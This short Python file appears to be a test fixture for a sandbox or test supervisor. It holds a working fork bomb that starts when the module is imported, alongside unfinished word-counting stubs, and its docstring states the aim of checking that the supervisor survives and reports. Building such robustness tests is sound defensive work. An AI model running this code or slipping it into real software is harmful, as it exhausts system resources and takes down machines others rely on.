"""Attack: a fork bomb started at import; every process forks for as long as it can.

The main test process goes on, so the suite must still report; the bomb must
not outlive the run nor stop the supervisor from reporting.
"""

import os
import time


def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


if os.fork() == 0:
    _bomb()


def count_words(text):
    raise NotImplementedError


def top_words(text, n):
    raise NotImplementedError
